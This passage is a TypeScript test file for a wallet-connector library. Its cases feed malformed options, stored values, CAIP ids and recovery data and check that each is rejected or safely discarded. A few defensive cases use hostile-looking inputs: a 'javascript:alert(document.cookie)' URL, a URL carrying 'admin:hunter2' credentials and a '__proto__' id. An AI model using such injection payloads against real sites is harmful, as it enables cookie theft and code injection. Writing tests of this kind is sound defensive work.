import type { Connector } from '@wagmi/core'
import { base, mainnet } from 'viem/chains'
import { afterEach, expect, it, vi } from 'vitest'
import { formatCaipChainId } from '../../src/core/caip/formatCaipChainId.js'
import { parseCaipAccount } from '../../src/core/caip/parseCaipAccount.js'
import { parseCaipChainId } from '../../src/core/caip/parseCaipChainId.js'
import {
  type ConnectorStorageItemName,
  createConnectorStorage,
} from '../../src/core/createConnectorStorage.js'
import { injectedWallet } from '../../src/injected/injectedWallet.js'
import { createPasskey } from '../../src/passkey/createPasskey.js'
import {
  createVendorClient,
  type VendorClient,
} from '../../src/passkey/createVendorClient.js'
import { isValidRpId } from '../../src/passkey/isValidRpId.js'
import {
  type PasskeyWalletParameters,
  passkeyWallet,
} from '../../src/passkey/passkeyWallet.js'
import { readSessionClaims } from '../../src/passkey/readSessionClaims.js'
import { toVendorAccount } from '../../src/passkey/toVendorAccount.js'
import {
  createRecoveryFlow,
  type RecoveryFlow,
} from '../../src/recovery/createRecoveryFlow.js'
import { createRecoveryStateStore } from '../../src/recovery/createRecoveryStateStore.js'
import { decodeCredentialBundle } from '../../src/recovery/decodeCredentialBundle.js'
import { decryptCredentialBundle } from '../../src/recovery/decryptCredentialBundle.js'
import { generateRecipientKey } from '../../src/recovery/hpkeOpen.js'
import type { RecoveryType } from '../../src/recovery/recoveryState.js'
import { validateRecoveryCode } from '../../src/recovery/validateRecoveryCode.js'
import {
  chooseWalletLink,
  toPairingLinks,
  toRequestLink,
  type WalletLinks,
} from '../../src/walletconnect/toPairingLinks.js'
import { walletConnectDeepLink } from '../../src/walletconnect/walletConnectDeepLink.js'
import { isAllowedDeepLink } from '../../src/wallets/isAllowedDeepLink.js'
import { toBrowseLink } from '../../src/wallets/toBrowseLink.js'
import { walletRegistry } from '../../src/wallets/walletRegistry.js'
import {
  alice,
  announceInPage,
  announcement,
  blockedStorage,
  hostConfig,
  memoryStorage,
  offCurveBundle,
  organizationId,
  pairingUri,
  recoveryKey,
  removeWebauthn,
  sdkPrefix,
  sealRecoveryCode,
  sessionToken,
  stamper,
  stopAnnouncing,
  stubWebauthn,
  vendorAnswering,
  walletConnectTopic,
  walletProvider,
} from './badInputFixtures.js'
import { tally } from './tally.js'

/*
 * Bad input from every place the pack reads from: the host's options, what
 * is stored in the browser, what wallets, peers and the vendor send, what the
 * user pastes. Each case either fails with the pack's own typed error (a
 * viem BaseError named after its class, versioned `wagmi-connector-pack@…`)
 * or is ignored, and then the safe result is checked concretely.
 */

type Source =
  | 'passkeyWallet options'
  | 'walletConnectDeepLink options'
  | 'injectedWallet options'
  | 'stored connector values'
  | 'stored recovery state'
  | 'CAIP accounts and chain ids'
  | 'requested chain ids'
  | 'pairing links'
  | 'peer metadata redirects'
  | 'EIP-6963 announcements'
  | 'browse links'
  | 'recovery codes'
  | 'passkey rp ids'
  | 'passkey user names and ids'
  | 'vendor responses'

/** The pack's error classes these cases expect (each module's errors.ts). */
type PackErrorName =
  | 'ChainNotConfiguredError'
  | 'InvalidCaipAccountError'
  | 'InvalidCaipChainIdError'
  | 'InvalidInjectedWalletParameterError'
  | 'InvalidPasskeyWalletParameterError'
  | 'InvalidRecoveryCodeError'
  | 'InvalidWalletConnectParameterError'
  | 'PasskeyError'
  | 'ProviderNotFoundError'
  | 'UnsupportedCaipNamespaceError'
  | 'VendorActivityError'
  | 'VendorConsensusNeededError'
  | 'VendorRequestError'

type ThrownError = Error & Record<string, unknown>

type Throws = {
  /** The error's `name`: its class. */
  throws: PackErrorName
  /** The exact `shortMessage` (SPEC §8's where it gives one). */
  message?: string
  /** A part of the `shortMessage`, where the rest names the input. */
  messageIncludes?: string
  /** Anything else the error or the surroundings must show. */
  also?: (error: ThrownError) => unknown
}

type Ignored<result> = {
  /** What the safe result is, in words. */
  ignored: string
  check: (result: result) => unknown
}

type Case = {
  source: Source
  name: string
  input: unknown
  run: (input: unknown) => unknown
  expected: Throws | Ignored<any>
}

function bad<input, result>(entry: {
  source: Source
  name: string
  input: input
  run: (input: input) => result
  expected: Throws | Ignored<Awaited<result>>
}): Case {
  return entry as unknown as Case
}

const now = 1_800_000_000
const subOrganizationId = '5f0c8a3e-1b2d-4c6e-9f70-123456789abd'
const iPhone =
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Mobile/15E148 Safari/604.1'
const originalUrl = location.href

const validPasskey: PasskeyWalletParameters = {
  organizationId,
  createAccount: async () => ({ subOrganizationId }),
}

/** A passkeyWallet option that must be refused with its typed error. */
function badPasskeyOption(
  name: string,
  input: Record<string, unknown>,
  expected: { message: string } | { messageIncludes: string },
): Case {
  return bad({
    source: 'passkeyWallet options',
    name,
    input,
    run: (options) => passkeyWallet({ ...validPasskey, ...options }),
    expected: { throws: 'InvalidPasskeyWalletParameterError', ...expected },
  })
}

function passkeyConnector(
  storage = memoryStorage().storage,
  parameters: Partial<PasskeyWalletParameters> = {},
) {
  return hostConfig(
    [passkeyWallet({ ...validPasskey, ...parameters })],
    storage,
  ).connectors[0]!
}

function walletConnectConnector(storage = memoryStorage().storage) {
  // setup() would load the WalletConnect SDK while idle: not in these cases.
  vi.stubGlobal('requestIdleCallback', () => 0)
  return hostConfig(
    [
      walletConnectDeepLink({
        projectId: 'reliability',
        relayUrl: 'ws://127.0.0.1:1',
        storagePrefix: sdkPrefix(),
      }),
    ],
    storage,
  ).connectors[0]!
}

/** The injected modules as a new page loads them: announcedProviders() starts with an empty list. */
async function freshInjected() {
  vi.resetModules()
  const [{ injectedWallet }, { injectedWallets }, { announcedProviders }] =
    await Promise.all([
      import('../../src/injected/injectedWallet.js'),
      import('../../src/injected/injectedWallets.js'),
      import('../../src/injected/announcedProviders.js'),
    ])
  return { injectedWallet, injectedWallets, announcedProviders }
}

/** What injectedWallets() makes of the announcements in the page. */
async function discover(...details: unknown[]) {
  announceInPage(...details)
  const { injectedWallets, announcedProviders } = await freshInjected()
  const config = hostConfig(injectedWallets())
  return { listed: announcedProviders(), connectors: config.connectors }
}

const noConnector = {
  ignored: 'not listed, no connector, createConfig unharmed',
  check: ({
    listed,
    connectors,
  }: {
    listed: readonly unknown[]
    connectors: readonly Connector[]
  }) => {
    expect(connectors).toEqual([])
    return listed
  },
}

const oneConnectorWithoutIcon = {
  ignored: 'one connector, without an icon',
  check: ({ connectors }: { connectors: readonly { icon?: string }[] }) => {
    expect(connectors).toHaveLength(1)
    expect(connectors[0]!.icon).toBeUndefined()
  },
}

/** One stored item read back through createConnectorStorage, as WalletConnect's connector reads it. */
async function readStored(item: ConnectorStorageItemName, raw: string) {
  const key = `host.walletConnectDeepLink.${item}`
  const { storage, entries } = memoryStorage({ [key]: raw })
  const value = await createConnectorStorage({
    storage,
    key: 'walletConnectDeepLink',
    chainIds: [mainnet.id, base.id],
  }).get(item)
  return { value, kept: entries.has(key) }
}

const discarded = {
  ignored: 'reads as undefined and is removed from storage',
  check: (result: { value: unknown; kept: boolean }) =>
    expect(result).toEqual({ value: undefined, kept: false }),
}

/** The stored recovery state read back, as passkeyWallet's recovery reads it. */
async function loadRecovery(raw: string) {
  const key = 'host.passkeyWallet.recovery'
  const { storage, entries } = memoryStorage({ [key]: raw })
  const state = await createRecoveryStateStore({
    storage,
    key: 'passkeyWallet',
    now: () => now,
  }).load()
  return { state, kept: entries.has(key) }
}

const recoveryDiscarded = {
  ignored: 'no recovery in progress; the stored value is removed',
  check: (result: { state: unknown; kept: boolean }) =>
    expect(result).toEqual({ state: undefined, kept: false }),
}

const recoveryState = (change: Record<string, unknown>) =>
  JSON.stringify({
    type: 'email',
    userId: 'user-1',
    createdAt: now - 60,
    sessionExpirationSeconds: 1800,
    ...change,
  })

const checksummedAddress = '0xab16a96D359eC26a11e2C2b3d8f8B8942d5Bfcdb'

const refusedLink = {
  ignored: 'no link: undefined',
  check: (link: string | undefined) => expect(link).toBeUndefined(),
}
const refusedDeepLink = {
  ignored: 'the QR code only: no deep link',
  check: (links: { qr: string; deepLink: string | undefined }) =>
    expect(links).toEqual({ qr: pairingUri, deepLink: undefined }),
}
const notAllowed = {
  ignored: 'not allowed: false',
  check: (allowed: boolean) => expect(allowed).toBe(false),
}

/** A peer's redirect metadata as the session's walletLink() passes it on (no host schemes). */
const peerLink = (redirect: Record<string, unknown> | undefined) =>
  chooseWalletLink(redirect as WalletLinks | undefined, 'native')

const codeInvalid: Throws = {
  throws: 'InvalidRecoveryCodeError',
  message: 'The code is invalid or expired.',
}

const emailCredential = {
  organizationId: subOrganizationId,
  userId: 'user-1',
  type: 'CREDENTIAL_TYPE_EMAIL_AUTH_KEY_P256',
  createdAt: now - 60,
}

const notABundle = {
  ignored: 'not a credential bundle: undefined',
  check: (decoded: unknown) => expect(decoded).toBeUndefined(),
}

function vendorClient(status: number, body: string, statusText = '') {
  vi.spyOn(console, 'error').mockImplementation(() => undefined)
  vi.spyOn(console, 'warn').mockImplementation(() => undefined)
  return createVendorClient({
    baseUrl: 'https://api.vendor.example',
    fetch: vendorAnswering(status, body, statusText),
  })
}

const signRawPayload = {
  type: 'ACTIVITY_TYPE_SIGN_RAW_PAYLOAD_V2',
  organizationId: subOrganizationId,
  parameters: {},
  resultKey: 'signRawPayloadResult',
}

/** The vendor answering every activity with `result`. */
function vendorAccount(result: unknown) {
  const vendor: VendorClient = {
    query: async () => ({}) as never,
    submit: async () => result as never,
  }
  return toVendorAccount({
    address: alice,
    organizationId: subOrganizationId,
    vendor,
    stamper: () => stamper,
  })
}

/**
 * Email recovery up to the code, against a vendor answering `whoami` and
 * `get_user` as given (`publicKey` is the code's key, as the vendor lists it).
 */
async function submitCodeAgainst(answers: {
  whoami: unknown
  user: (publicKey: string) => unknown
}) {
  const key = recoveryKey()
  let target = ''
  const vendor: VendorClient = {
    async query(name) {
      if (name === 'whoami') return answers.whoami as never
      if (name === 'get_user') return answers.user(key.publicKey) as never
      throw new Error(`unexpected query ${name}`)
    },
    submit: async () => {
      throw new Error('no activity is expected before the code is accepted')
    },
  }
  const flow = createRecoveryFlow({
    vendor,
    parentOrganizationId: organizationId,
    start: async ({ targetPublicKey }) => {
      target = targetPublicKey
    },
    stateStore: createRecoveryStateStore({ storage: null, key: 'recovery' }),
    sessionExpirationSeconds: 1800,
    createPasskey: async () => {
      throw new Error('no passkey is expected')
    },
  })
  await flow.sendEmail({ email: 'alice@example.com', type: 'email' })
  await flow.submitCode(sealRecoveryCode(key.secret, target))
  return flow.getSnapshot()
}

const listedKey = (publicKey: string, seconds: unknown) => ({
  user: {
    userId: 'user-1',
    userName: 'Alice',
    apiKeys: [
      {
        credential: { publicKey, type: 'CREDENTIAL_TYPE_API_KEY_P256' },
        createdAt: { seconds },
      },
    ],
  },
})

const whoami = { organizationId: subOrganizationId, userId: 'user-1' }

/** A passkey sign-up on a page with WebAuthn, where the browser refuses a nameless user. */
async function signUpAs(userName: unknown) {
  stubWebauthn(() =>
    Promise.reject(
      new TypeError(
        "Failed to execute 'create' on 'CredentialsContainer': required member name is undefined.",
      ),
    ),
  )
  return passkeyConnector().connect({ signUp: { userName } } as never)
}

const cases: Case[] = [
  // --- passkeyWallet(options) -------------------------------------------
  bad({
    source: 'passkeyWallet options',
    name: 'no options at all',
    input: undefined,
    run: (input) => passkeyWallet(input as never),
    expected: {
      throws: 'InvalidPasskeyWalletParameterError',
      message:
        'passkeyWallet: invalid `organizationId`: expected the vendor organization id, a UUID.',
    },
  }),
  badPasskeyOption(
    'an organization name instead of its UUID',
    { organizationId: 'acme-production' },
    {
      message:
        'passkeyWallet: invalid `organizationId`: expected the vendor organization id, a UUID.',
    },
  ),
  badPasskeyOption(
    'a vendor API on ftp://',
    { apiBaseUrl: 'ftp://api.vendor.example' },
    {
      message: 'passkeyWallet: invalid `apiBaseUrl`: expected an http(s) URL.',
    },
  ),
  bad({
    source: 'passkeyWallet options',
    name: 'createAccount given as a backend URL instead of a function',
    input: { createAccount: 'https://backend.example/create-account' },
    run: (input) => passkeyWallet({ ...validPasskey, ...input } as never),
    expected: {
      throws: 'InvalidPasskeyWalletParameterError',
      message:
        'passkeyWallet: invalid `createAccount`: expected a function that calls your backend.',
    },
  }),
  bad({
    source: 'passkeyWallet options',
    name: 'session length as a string from an env variable',
    input: { session: { expirationSeconds: '900' } },
    run: (input) => passkeyWallet({ ...validPasskey, ...input } as never),
    expected: {
      throws: 'InvalidPasskeyWalletParameterError',
      message:
        'passkeyWallet: invalid `session.expirationSeconds`: expected whole seconds from 30 to 604800 (7 days), or `session: false`.',
    },
  }),
  badPasskeyOption(
    'an endless session',
    { session: { expirationSeconds: Number.POSITIVE_INFINITY } },
    { messageIncludes: '`session.expirationSeconds`' },
  ),
  bad({
    source: 'passkeyWallet options',
    name: 'recovery without its start call',
    input: { recovery: {} },
    run: (input) => passkeyWallet({ ...validPasskey, ...input } as never),
    expected: {
      throws: 'InvalidPasskeyWalletParameterError',
      message:
        'passkeyWallet: invalid `recovery.start`: expected a function that calls your backend.',
    },
  }),
  bad({
    source: 'passkeyWallet options',
    name: 'a recovery session longer than SPEC’s 1800 s',
    input: {
      recovery: {
        start: async () => undefined,
        sessionExpirationSeconds: 3600,
      },
    },
    run: (input) => passkeyWallet({ ...validPasskey, ...input }),
    expected: {
      throws: 'InvalidPasskeyWalletParameterError',
      message:
        'passkeyWallet: invalid `recovery.sessionExpirationSeconds`: expected whole seconds from 60 to 1800.',
    },
  }),
  badPasskeyOption(
    'an export frame on plain http:// of another host',
    { exportFrameUrl: 'http://frame.example.com/export' },
    {
      message:
        'passkeyWallet: invalid `exportFrameUrl`: expected an https:// URL (http:// only on localhost or 127.0.0.1).',
    },
  ),
  badPasskeyOption(
    'an export frame at a javascript: URL',
    { exportFrameUrl: 'javascript:alert(document.cookie)' },
    { messageIncludes: '`exportFrameUrl`' },
  ),
  badPasskeyOption(
    'an export frame URL carrying credentials',
    { exportFrameUrl: 'https://admin:hunter2@frame.example.com/' },
    { messageIncludes: '`exportFrameUrl`' },
  ),

  // --- passkey rp ids ---------------------------------------------------
  ...(
    [
      ['an origin instead of a hostname', 'https://example.com'],
      ['a hostname with a port', 'example.com:8443'],
      ['an IPv4 address', '192.168.1.10'],
      ['a trailing dot', 'example.com.'],
      ['an empty string', ''],
      ['a space inside', 'ex ample.com'],
      ['a Unicode hostname (not punycode)', 'bücher.example'],
      ['a label starting with "-"', '-shop.example.com'],
      ['a name longer than 253 characters', `${'a'.repeat(63)}.`.repeat(4)],
      ['a number', 42],
    ] as const
  ).map(([name, rpId]) =>
    bad({
      source: 'passkey rp ids',
      name,
      input: rpId,
      run: (input) => {
        // The pure check agrees with the option's validation.
        expect(isValidRpId(input)).toBe(false)
        return passkeyWallet({ ...validPasskey, rpId: input as string })
      },
      expected: {
        throws: 'InvalidPasskeyWalletParameterError',
        message:
          'passkeyWallet: invalid `rpId`: expected a hostname such as "example.com", or "localhost".',
      },
    }),
  ),

  // --- passkey user names and ids ----------------------------------------
  bad({
    source: 'passkey user names and ids',
    name: 'an empty passkey user id',
    input: new Uint8Array(0),
    run: (userId) =>
      createPasskey({
        rpId: 'example.com',
        rpName: 'Example',
        userName: 'alice',
        userId,
      }),
    expected: {
      throws: 'PasskeyError',
      message: 'The passkey user id must be 1 to 64 bytes, got 0.',
      also: (error) => expect(error.code).toBe('ERROR_INVALID_USER_ID_LENGTH'),
    },
  }),
  bad({
    source: 'passkey user names and ids',
    name: 'a passkey user id of 65 bytes',
    input: new Uint8Array(65),
    run: (userId) =>
      createPasskey({
        rpId: 'example.com',
        rpName: 'Example',
        userName: 'alice',
        userId,
      }),
    expected: {
      throws: 'PasskeyError',
      message: 'The passkey user id must be 1 to 64 bytes, got 65.',
      also: (error) => expect(error.code).toBe('ERROR_INVALID_USER_ID_LENGTH'),
    },
  }),
  bad({
    source: 'passkey user names and ids',
    name: 'sign-up without a user name (a form field missing)',
    input: undefined,
    run: (userName) => signUpAs(userName),
    expected: {
      throws: 'InvalidPasskeyWalletParameterError',
      messageIncludes: 'userName',
    },
  }),
  bad({
    source: 'passkey user names and ids',
    name: 'sign-up with a blank user name',
    input: '   ',
    run: (userName) => signUpAs(userName),
    expected: {
      throws: 'InvalidPasskeyWalletParameterError',
      messageIncludes: 'userName',
    },
  }),

  // --- walletConnectDeepLink(options) --------------------------------------
  bad({
    source: 'walletConnectDeepLink options',
    name: 'no project id',
    input: {},
    run: (input) => walletConnectDeepLink(input as never),
    expected: {
      throws: 'InvalidWalletConnectParameterError',
      message:
        'walletConnectDeepLink: `projectId` must be your WalletConnect project id.',
    },
  }),
  bad({
    source: 'walletConnectDeepLink options',
    name: 'a numeric project id',
    input: { projectId: 12345 },
    run: (input) => walletConnectDeepLink(input as never),
    expected: {
      throws: 'InvalidWalletConnectParameterError',
      message:
        'walletConnectDeepLink: `projectId` must be your WalletConnect project id.',
    },
  }),
  bad({
    source: 'walletConnectDeepLink options',
    name: 'a relay on https://',
    input: { projectId: 'p', relayUrl: 'https://relay.walletconnect.org' },
    run: (input) => walletConnectDeepLink(input),
    expected: {
      throws: 'InvalidWalletConnectParameterError',
      message:
        'walletConnectDeepLink: `relayUrl` must be a ws:// or wss:// URL.',
    },
  }),
  bad({
    source: 'walletConnectDeepLink options',
    name: 'an unknown deep-link preference',
    input: { projectId: 'p', deepLink: 'app' },
    run: (input) => walletConnectDeepLink(input as never),
    expected: {
      throws: 'InvalidWalletConnectParameterError',
      message:
        "walletConnectDeepLink: `deepLink` must be 'native' or 'universal'.",
    },
  }),
  bad({
    source: 'walletConnectDeepLink options',
    name: 'an unknown switching mode',
    input: { projectId: 'p', switching: 'never' },
    run: (input) => walletConnectDeepLink(input as never),
    expected: {
      throws: 'InvalidWalletConnectParameterError',
      message: "walletConnectDeepLink: `switching` must be 'app' or 'wallet'.",
    },
  }),
  bad({
    source: 'walletConnectDeepLink options',
    name: 'a misspelt wallet id',
    input: { projectId: 'p', wallet: 'metamsk' },
    run: (input) => walletConnectDeepLink(input as never),
    expected: {
      throws: 'InvalidWalletConnectParameterError',
      messageIncludes: '`wallet` must be a registered wallet id',
    },
  }),
  bad({
    source: 'walletConnectDeepLink options',
    name: 'wallet: null',
    input: { projectId: 'p', wallet: null },
    run: (input) => walletConnectDeepLink(input as never),
    expected: {
      throws: 'InvalidWalletConnectParameterError',
      messageIncludes: '`wallet` must be a registered wallet id',
    },
  }),
  bad({
    source: 'walletConnectDeepLink options',
    name: 'a wallet descriptor whose app link is a number (JSON config)',
    input: {
      projectId: 'p',
      wallet: { id: 'acme', name: 'Acme', walletConnect: { native: 42 } },
    },
    run: (input) => walletConnectDeepLink(input as never),
    expected: {
      throws: 'InvalidWalletConnectParameterError',
      messageIncludes: '`wallet`',
    },
  }),

  // --- injectedWallet(options) ---------------------------------------------
  bad({
    source: 'injectedWallet options',
    name: 'a misspelt registry id',
    input: 'metamsk',
    run: (wallet) => injectedWallet({ wallet: wallet as never }),
    expected: {
      throws: 'InvalidInjectedWalletParameterError',
      message:
        'injectedWallet: `wallet` must be a registry id or a descriptor with an id and a name, got "metamsk".',
    },
  }),
  bad({
    source: 'injectedWallet options',
    name: 'a prototype key as the wallet id',
    input: '__proto__',
    run: (wallet) => injectedWallet({ wallet: wallet as never }),
    expected: {
      throws: 'InvalidInjectedWalletParameterError',
      messageIncludes: 'got "__proto__"',
    },
  }),
  bad({
    source: 'injectedWallet options',
    name: 'wallet: null',
    input: null,
    run: (wallet) => injectedWallet({ wallet: wallet as never }),
    expected: {
      throws: 'InvalidInjectedWalletParameterError',
      messageIncludes: 'got null',
    },
  }),
  bad({
    source: 'injectedWallet options',
    name: 'a descriptor without a name',
    input: { id: 'acme' },
    run: (wallet) => injectedWallet({ wallet: wallet as never }),
    expected: {
      throws: 'InvalidInjectedWalletParameterError',
      messageIncludes: 'got {"id":"acme"}',
    },
  }),
  bad({
    source: 'injectedWallet options',
    name: 'no options at all',
    input: undefined,
    run: (input) => injectedWallet(input as never),
    expected: { throws: 'InvalidInjectedWalletParameterError' },
  }),
  bad({
    source: 'injectedWallet options',
    name: 'a nameless descriptor that refers to itself (a class instance)',
    input: (() => {
      const wallet: Record<string, unknown> = { id: 'acme' }
      wallet.self = wallet
      return wallet
    })(),
    run: (wallet) => injectedWallet({ wallet: wallet as never }),
    expected: { throws: 'InvalidInjectedWalletParameterError' },
  }),

  // --- stored connector values ---------------------------------------------
  bad({
    source: 'stored connector values',
    name: 'an account that is not an address',
    input: '"not-an-address"',
    run: (raw) => readStored('activeAccount', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'an account with a broken checksum',
    input: JSON.stringify(`${checksummedAddress.slice(0, -1)}C`),
    run: (raw) => readStored('activeAccount', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'an account that is a number',
    input: '42',
    run: (raw) => readStored('activeAccount', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'an account entry that is not JSON (written by hand)',
    input: '0xab16a96D{',
    run: (raw) => readStored('activeAccount', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'a session topic one character short',
    input: JSON.stringify(walletConnectTopic.slice(1)),
    run: (raw) => readStored('sessionTopic', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'a session topic of 100 KB',
    input: JSON.stringify('a'.repeat(100_000)),
    run: (raw) => readStored('sessionTopic', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'another connector’s session id (passkeyWallet’s organization) as a topic',
    input: JSON.stringify(subOrganizationId),
    run: (raw) => readStored('sessionTopic', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'a chain id stored as a string (older format)',
    input: '"1"',
    run: (raw) => readStored('chainId', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'a chain id the config no longer has',
    input: '10',
    run: (raw) => readStored('chainId', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'a fractional chain id',
    input: '1.5',
    run: (raw) => readStored('chainId', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'a wagmi bigint wrapper that does not parse',
    input: '{"__type":"bigint","value":"zz"}',
    run: (raw) => readStored('chainId', raw),
    expected: discarded,
  }),
  bad({
    source: 'stored connector values',
    name: 'a storage the browser refuses to read or clear',
    input: 'SecurityError on every call',
    run: () =>
      createConnectorStorage({
        storage: blockedStorage(),
        key: 'walletConnectDeepLink',
      }).get('activeAccount'),
    expected: {
      ignored: 'reads as undefined, nothing thrown',
      check: (value) => expect(value).toBeUndefined(),
    },
  }),
  bad({
    source: 'stored connector values',
    name: 'passkeyWallet reloads with a garbage account and WalletConnect’s topic',
    input: {
      'host.passkeyWallet.activeAccount': '"0xnope"',
      'host.passkeyWallet.sessionTopic': JSON.stringify(walletConnectTopic),
    },
    run: async (raw) => {
      const { storage, entries } = memoryStorage(raw)
      const authorized = await passkeyConnector(storage).isAuthorized()
      const left = [...entries.keys()].filter((key) =>
        key.startsWith('host.passkeyWallet.'),
      )
      return { authorized, left }
    },
    expected: {
      ignored: 'not authorized; both entries removed',
      check: (result) =>
        expect(result).toEqual({ authorized: false, left: [] }),
    },
  }),
  bad({
    source: 'stored connector values',
    name: 'passkeyWallet reloads with a chain the config no longer has',
    input: { 'host.passkeyWallet.chainId': '10' },
    run: async (raw) => {
      const { storage, entries } = memoryStorage(raw)
      const chainId = await passkeyConnector(storage).getChainId()
      return { chainId, kept: entries.has('host.passkeyWallet.chainId') }
    },
    expected: {
      ignored: 'the first configured chain; the entry is removed',
      check: (result) =>
        expect(result).toEqual({ chainId: mainnet.id, kept: false }),
    },
  }),
  bad({
    source: 'stored connector values',
    name: 'passkeyWallet reloads where storage is blocked',
    input: 'SecurityError on every call',
    run: () => passkeyConnector(blockedStorage()).isAuthorized(),
    expected: {
      ignored: 'not authorized, nothing thrown',
      check: (authorized) => expect(authorized).toBe(false),
    },
  }),
  bad({
    source: 'stored connector values',
    name: 'walletConnectDeepLink reloads with a garbage session topic',
    input: { 'host.walletConnectDeepLink.sessionTopic': '"not-a-topic"' },
    run: async (raw) => {
      const { storage, entries } = memoryStorage(raw)
      // An SDK that would fail to start anyway; the case records whether it was loaded.
      let sdkLoaded = false
      vi.doMock('@walletconnect/ethereum-provider', () => {
        sdkLoaded = true
        return {
          EthereumProvider: {
            init: () => Promise.reject(new Error('no relay in this test')),
          },
        }
      })
      try {
        const authorized = await walletConnectConnector(storage).isAuthorized()
        return {
          authorized,
          kept: entries.has('host.walletConnectDeepLink.sessionTopic'),
          sdkLoaded,
        }
      } finally {
        vi.doUnmock('@walletconnect/ethereum-provider')
      }
    },
    expected: {
      ignored: 'not authorized, without loading the SDK; the entry is removed',
      check: (result) =>
        expect(result).toEqual({
          authorized: false,
          kept: false,
          sdkLoaded: false,
        }),
    },
  }),
  bad({
    source: 'stored connector values',
    name: 'injectedWallet reloads where storage is blocked',
    input: 'SecurityError on every call',
    run: async () => {
      const { injectedWallet } = await freshInjected()
      return hostConfig(
        [injectedWallet({ wallet: 'rabby' })],
        blockedStorage(),
      ).connectors[0]!.isAuthorized()
    },
    expected: {
      ignored: 'not authorized, nothing thrown',
      check: (authorized) => expect(authorized).toBe(false),
    },
  }),

  // --- stored recovery state ---------------------------------------------
  bad({
    source: 'stored recovery state',
    name: 'not JSON',
    input: '{"type":"email",',
    run: loadRecovery,
    expected: recoveryDiscarded,
  }),
  bad({
    source: 'stored recovery state',
    name: 'an older format with createdAt in milliseconds',
    input: recoveryState({ createdAt: (now - 60) * 1000 }),
    run: loadRecovery,
    expected: recoveryDiscarded,
  }),
  bad({
    source: 'stored recovery state',
    name: 'a passkey recovery (never a signing session)',
    input: recoveryState({ type: 'passkey' }),
    run: loadRecovery,
    expected: recoveryDiscarded,
  }),
  bad({
    source: 'stored recovery state',
    name: 'an expired session',
    input: recoveryState({ createdAt: now - 1801 }),
    run: loadRecovery,
    expected: recoveryDiscarded,
  }),
  bad({
    source: 'stored recovery state',
    name: 'a session longer than 1800 s',
    input: recoveryState({ sessionExpirationSeconds: 86_400 }),
    run: loadRecovery,
    expected: recoveryDiscarded,
  }),
  bad({
    source: 'stored recovery state',
    name: 'an empty user id',
    input: recoveryState({ userId: '' }),
    run: loadRecovery,
    expected: recoveryDiscarded,
  }),
  bad({
    source: 'stored recovery state',
    name: 'a user id of 129 characters',
    input: recoveryState({ userId: 'u'.repeat(129) }),
    run: loadRecovery,
    expected: recoveryDiscarded,
  }),
  bad({
    source: 'stored recovery state',
    name: 'another connector’s value (an address)',
    input: JSON.stringify(alice),
    run: loadRecovery,
    expected: recoveryDiscarded,
  }),
  bad({
    source: 'stored recovery state',
    name: 'an array',
    input: '["email","user-1",1799999940,1800]',
    run: loadRecovery,
    expected: recoveryDiscarded,
  }),
  bad({
    source: 'stored recovery state',
    name: 'passkeyWallet’s recovery opened over a garbage state',
    input: '{"type":"email","userId":null}',
    run: async (raw) => {
      const key = 'host.passkeyWallet.recovery'
      const { storage, entries } = memoryStorage({ [key]: raw })
      const connector = passkeyConnector(storage, {
        recovery: { start: async () => undefined },
      }) as unknown as { getRecovery(): Promise<RecoveryFlow> }
      const flow = await connector.getRecovery()
      // The flow reads the stored state as it starts.
      for (let tries = 0; tries < 50 && entries.has(key); tries++)
        await new Promise((resolve) => setTimeout(resolve, 10))
      const { step, interrupted } = flow.getSnapshot()
      return { step, interrupted, kept: entries.has(key) }
    },
    expected: {
      ignored: 'an idle, uninterrupted recovery; the value is removed',
      check: (result) =>
        expect(result).toEqual({
          step: 'idle',
          interrupted: false,
          kept: false,
        }),
    },
  }),

  // --- CAIP accounts and chain ids -----------------------------------------
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'an account that is not a string',
    input: undefined,
    run: parseCaipAccount,
    expected: {
      throws: 'InvalidCaipAccountError',
      message: 'Invalid CAIP-10 account "undefined": not a string.',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'an account without an address',
    input: 'eip155:1',
    run: parseCaipAccount,
    expected: {
      throws: 'InvalidCaipAccountError',
      message:
        'Invalid CAIP-10 account "eip155:1": expected 3 parts separated by ":", got 2.',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'an account with a fourth part',
    input: `eip155:1:${checksummedAddress}:extra`,
    run: parseCaipAccount,
    expected: {
      throws: 'InvalidCaipAccountError',
      messageIncludes: 'expected 3 parts separated by ":", got 4',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'a Bitcoin account (namespace outside SPEC §9)',
    input:
      'bip122:000000000019d6689c085ae165831e93:128Lkh3S7CkDTBZ8W7BbpsN3YYizJMp8p6',
    run: parseCaipAccount,
    expected: {
      throws: 'UnsupportedCaipNamespaceError',
      message: 'Unsupported chain namespace "bip122".',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'an upper-case namespace',
    input: `EIP155:1:${checksummedAddress}`,
    run: parseCaipAccount,
    expected: {
      throws: 'InvalidCaipAccountError',
      messageIncludes: 'the namespace must be 3 to 8 lowercase letters',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'an eip155 address with a broken checksum',
    input: 'eip155:1:0xab16a96D359eC26a11e2C2b3d8f8B8942d5Bfcdc',
    run: parseCaipAccount,
    expected: {
      throws: 'InvalidCaipAccountError',
      messageIncludes:
        'the eip155 address must be 0x followed by 40 hex characters',
    },
  }),
  bad({
    source: 'CAIP accounts and chain ids',
    name: 'an account of 1 MB (the message stays short)',
    input: `eip155:1:0x${'a'.repeat(1_000_000)}`,
    run: parseCaipAccount,
    expected: {
      throws: 'InvalidCaipAccountError',
      also: (error) =>
